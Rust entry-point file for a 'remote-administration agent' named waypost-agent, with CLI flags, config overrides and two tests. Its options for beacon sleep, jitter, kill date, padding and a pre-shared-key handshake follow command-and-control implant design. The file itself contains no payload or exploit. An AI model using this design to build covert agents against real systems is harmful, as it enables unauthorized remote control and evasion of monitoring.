mod agent;
mod commands;
mod config;
mod engine;
mod handshake;
mod pake;
#[cfg(test)]
mod testutil;
mod token;
mod transport;

use std::path::PathBuf;

use anyhow::Result;
use clap::Parser;
use tracing::info;

use crate::agent::Agent;
use crate::config::Config;
use crate::transport::TcpTransport;

#[derive(Parser)]
#[command(name = "waypost-agent", version, about = "Remote-administration agent")]
struct Cli {
    /// Path to config file (TOML). Flags below override its values.
    #[arg(long, short)]
    config: Option<PathBuf>,
    /// Server address as host:port.
    #[arg(long)]
    server: Option<String>,
    /// Pre-shared key for the session handshake.
    #[arg(long)]
    psk: Option<String>,
    /// Base beacon interval in seconds.
    #[arg(long)]
    sleep: Option<u64>,
    /// Maximum beacon jitter in milliseconds.
    #[arg(long)]
    skew: Option<u64>,
    /// Unix timestamp after which the agent exits (0 disables).
    #[arg(long)]
    killdate: Option<i64>,
    /// Consecutive failures tolerated before giving up.
    #[arg(long)]
    maxretry: Option<u32>,
    /// Maximum message padding length (0 disables).
    #[arg(long)]
    padding: Option<usize>,
}

impl Cli {
    fn into_config(self) -> Result<Config> {
        let mut config = match &self.config {
            Some(path) => Config::load(path)?,
            None => Config::default(),
        };
        if let Some(server) = self.server {
            config.server_addr = server;
        }
        if let Some(psk) = self.psk {
            config.psk = psk;
        }
        if let Some(sleep) = self.sleep {
            config.sleep_secs = sleep;
        }
        if let Some(skew) = self.skew {
            config.skew_ms = skew;
        }
        if let Some(killdate) = self.killdate {
            config.kill_date = killdate;
        }
        if let Some(maxretry) = self.maxretry {
            config.max_retry = maxretry;
        }
        if let Some(padding) = self.padding {
            config.padding_max = padding;
        }
        config.validate()?;
        Ok(config)
    }
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt()
        .with_writer(std::io::stderr)
        .with_env_filter(
            tracing_subscriber::EnvFilter::try_from_default_env()
                .unwrap_or_else(|_| tracing_subscriber::EnvFilter::new("info")),
        )
        .init();

    let config = Cli::parse().into_config()?;
    info!(
        version = env!("CARGO_PKG_VERSION"),
        server = %config.server_addr,
        "waypost agent starting"
    );

    let transport = TcpTransport::new(config.server_addr.clone());
    Agent::new(&config).run(transport).await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_override_config_values() {
        let cli = Cli::parse_from([
            "waypost-agent",
            "--server",
            "10.1.2.3:4444",
            "--psk",
            "pw",
            "--sleep",
            "10",
            "--padding",
            "0",
        ]);
        let config = cli.into_config().unwrap();
        assert_eq!(config.server_addr, "10.1.2.3:4444");
        assert_eq!(config.sleep_secs, 10);
        assert_eq!(config.padding_max, 0);
        // Untouched fields keep their defaults.
        assert_eq!(config.skew_ms, 3000);
    }

    #[test]
    fn missing_psk_is_rejected() {
        let cli = Cli::parse_from(["waypost-agent", "--server", "10.1.2.3:4444"]);
        assert!(cli.into_config().is_err());
    }
}
